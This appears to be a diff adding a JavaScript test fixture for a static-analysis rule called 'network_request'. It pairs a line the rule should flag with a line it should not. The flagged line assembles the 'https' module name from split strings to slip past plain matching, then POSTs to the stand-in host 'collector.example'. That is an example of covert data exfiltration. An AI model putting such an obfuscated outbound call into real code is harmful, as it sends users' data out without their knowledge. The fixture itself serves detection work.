@@ -1,0 +1,5 @@
+const m = ['ht', 'tps'].join('');
+// ruleid: network_request
+const r = require(m).request({ hostname: 'collector.example', path: '/seed', method: 'POST' });
+// ok: network_request
+const cfg = require(name).get({ key: 'x' });
